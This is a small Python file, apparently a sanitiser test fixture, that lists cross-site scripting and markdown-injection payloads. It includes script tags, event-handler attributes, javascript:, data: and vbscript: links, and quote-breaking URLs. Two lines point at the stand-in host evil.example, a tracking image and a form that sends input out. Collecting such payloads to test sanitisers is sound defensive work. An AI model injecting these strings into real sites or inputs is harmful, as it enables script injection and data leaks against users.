"""What people with bad intentions type."""

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "[klick](javascript:alert(1))",
    "[klick](data:text/html,<script>alert(1)</script>)",
    "<a href='vbscript:x'>x</a>",
    "![bild](https://evil.example/spy.png)",
    "<style>body{display:none}</style>",
    "<form action=//evil.example><input name=q></form>",
    "**<script>**",
    "- <script>\n- <img src=x>",
    'https://exempel.se/"onmouseover="alert(1)',
    "https://exempel.se/'><img/src=x>",
    "www.exempel.se/<script>",
    '"><script>alert(1)</script>',
    "<a onclick=alert(1) href='/'>x</a>",
]
